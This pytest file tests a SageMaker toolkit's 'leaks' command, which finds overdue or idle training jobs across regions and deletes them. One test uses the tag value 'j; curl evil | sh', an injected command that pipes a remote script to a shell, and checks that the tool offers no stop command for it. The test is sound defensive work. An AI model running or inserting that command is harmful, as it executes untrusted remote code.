"""leaks finds what costs money and should not, in any region, and ends it on request."""

from datetime import datetime, timedelta
from unittest import mock

import pytest

from launch.aws.client import Aws
from launch.aws.names import JOB_TAG
from launch.core.errors import AwsError
from launch.rehearse.aws.sagemaker.changes import complete
from launch.sagemaker import training_jobs
from launch.sagemaker.leaks import jobs, leaks_of
from tests.launch.faults import Faults, injected, refused, throttled
from tests.launch.sagemaker.known import NAME, NOW, training_job, typed
from tests.launch.sagemaker.world import Stage, one_aws

DAY_S = 86_400


# ---- judging


@pytest.mark.parametrize(
    ("changes", "is_leak", "why"),
    [
        ({}, False, "within its time limit"),
        # It trains for 50 minutes, and has an hour to end.
        ({"max_run_s": -601}, True, "past its time limit"),
        ({"max_run_s": -600}, False, "within its time limit"),
        ({"started": None}, False, "waiting for instances"),
        ({"started": None, "max_wait_s": 0}, False, "within its time limit"),
        ({"started": None, "max_wait_s": -1}, True, "past its time limit"),
        # However long it waited for machines, its time begins with the training.
        ({"created": NOW - timedelta(days=9), "max_run_s": 3600}, False, "within its time limit"),
        ({"created": NOW - timedelta(days=9), "started": None}, False, "waiting for instances"),
        # A spot job's limit counts from its creation an hour ago, however often it was interrupted.
        ({"is_spot": True, "max_run_s": 60, "max_wait_s": 7200}, False, "within its time limit"),
        ({"is_spot": True, "max_run_s": 86_400, "max_wait_s": -1}, True, "past its time limit"),
        # https://docs.aws.amazon.com/sagemaker/latest/APIReference/API_CreateHyperParameterTuningJob.html, Tags
        ({"name": "tuning-001-0123abcd", "tuning_job": "tuning"}, False, "of tuning job tuning"),
        ({"name": "tuning-001-0123abcd", "tuning_job": "tuning", "max_run_s": -601}, True, "of tuning job tuning"),
        ({"status": "Completed", "pool": "Available"}, True, "instances kept for the next job"),
    ],
)
def test_a_leak_is_what_nobody_waits_for(changes: dict[str, object], is_leak: bool, why: str) -> None:
    (finding,) = leaks_of([training_job(**changes)], NOW)
    assert (finding.is_leak, finding.why) == (is_leak, why)


# ---- the verb


def test_a_job_past_its_deadline_is_a_leak_and_delete_ends_it(stage: Stage, capsys: pytest.CaptureFixture[str]) -> None:
    stage.started("old", max_hours=2.0)
    stage.slept_s += 3 * 3600 + 60
    stage.started("young")
    assert stage.type("leaks") == 4
    out = capsys.readouterr().out
    assert "3.03 USD per hour, 1.51 USD of it for leaks\n" in out
    assert out.endswith("\n  python -m launch.sagemaker leaks --delete\n")
    assert stage.type("leaks", "--delete", "--yes") == 0
    assert stage.account.left() == ["training job young (InProgress)"]


def test_machines_kept_after_a_job_are_a_leak_and_are_given_back(stage: Stage) -> None:
    complete(stage.started(warm_pool_s=600))
    assert stage.type("leaks") == 4
    assert stage.type("leaks", "--delete", "--yes") == 0
    assert stage.account.left() == []


def test_jobs_without_the_toolkits_tag_are_neither_shown_nor_ended(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    stage.started_by_others()
    stage.slept_s += 30 * DAY_S
    assert stage.type("leaks", "--delete", "--yes") == 0
    assert "theirs" not in capsys.readouterr().out
    assert stage.account.left() == ["training job theirs (InProgress)"]


def test_every_region_is_searched_and_one_that_does_not_answer_counts(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    """Jobs of other regions are put beside ours, for roles and buckets of the account know no regions here."""
    there, costing = one_aws("eu-west-1"), training_jobs.costing
    stage.started("here")
    with mock.patch.object(type(stage), "aws", there):
        stage.account.region = "eu-west-1"  # where to look for what was made
        stage.started("there")
        stage.account.region = "us-east-1"
    stage.slept_s += 2 * DAY_S
    assert stage.type("leaks") == 4
    assert "there" not in capsys.readouterr().out

    def refuse(aws: Aws, now: datetime) -> object:
        if aws.region == "eu-west-1":
            raise AwsError("not enabled.")
        return costing(aws, now)

    with mock.patch.object(training_jobs, "costing", refuse):
        assert stage.type("leaks", "--all-regions", "--delete", "--yes") == 4
    assert "warning: eu-west-1 could not be checked: not enabled.\n" in capsys.readouterr().out
    assert stage.type("leaks", "--all-regions") == 4
    assert "  there  eu-west-1  " in capsys.readouterr().out
    assert stage.type("leaks", "--all-regions", "--delete", "--yes") == 0
    assert stage.account.left() == []


@pytest.mark.parametrize(
    ("name", "job", "remedy"),
    [(f"{NAME}--2", NAME, typed("stop")), (NAME, "j; curl evil | sh", None)],
)
def test_a_job_comes_with_the_command_that_stops_it_but_for_a_strangers_tag(
    name: str, job: str, remedy: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """launch.infra shows it where a job keeps it from deleting the account's roles."""
    one = training_job(name=name, tags={**training_job().tags, JOB_TAG: job})
    monkeypatch.setattr(training_jobs, "costing", lambda aws, now: (one,))
    (line,) = jobs(one_aws("us-east-1"), NOW)
    assert line.startswith(f"{name} in us-east-1 (")
    assert (remedy or "by hand") in line
    assert ("python" in line) == (remedy is not None)


@pytest.mark.parametrize("words", [("leaks",), ("stop", "--all", "--yes")], ids=lambda words: words[0])
def test_a_job_that_we_may_not_look_at_is_left_out(stage: Stage, words: tuple[str, ...]) -> None:
    stage.started("ours")
    stage.started_by_others("theirs")  # the newer one is listed first
    with injected(Faults()) as faults:
        faults.on("DescribeTrainingJob", refused("AccessDeniedException", 403))
        assert stage.type(*words) == 0
    assert "ours" in stage.text
    assert "theirs" not in stage.text


@pytest.mark.parametrize("verb", ["leaks", "status"])
def test_a_job_that_cannot_be_looked_at_for_another_reason_is_an_error(
    stage: Stage, verb: str, capsys: pytest.CaptureFixture[str]
) -> None:
    stage.started("one")
    with injected(Faults()) as faults:
        faults.on("DescribeTrainingJob", throttled())
        assert stage.type(verb) == 4
    assert capsys.readouterr().err.startswith("error: AWS is busy: sagemaker:DescribeTrainingJob was refused")


def test_a_training_job_whose_name_is_no_start_of_its_job_is_shown_and_never_stopped(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    """A tuning job gives its own tags to its training jobs, which have names of their own."""
    stage.started("theirs")
    (tag,) = [tag for tag in stage.job("theirs").tags if tag["Key"] == "aws-ddp-toolkit:job"]
    tag["Value"] = "another"
    stage.slept_s += 2 * DAY_S
    assert stage.type("leaks", "--delete", "--yes") == 4
    assert stage.type("stop", "--all", "--yes") == 0
    out = capsys.readouterr().out
    assert "not touched: its name is no start of 'another'" in out
    assert "--delete" not in out
    assert stage.account.left() == ["training job theirs (InProgress)"]
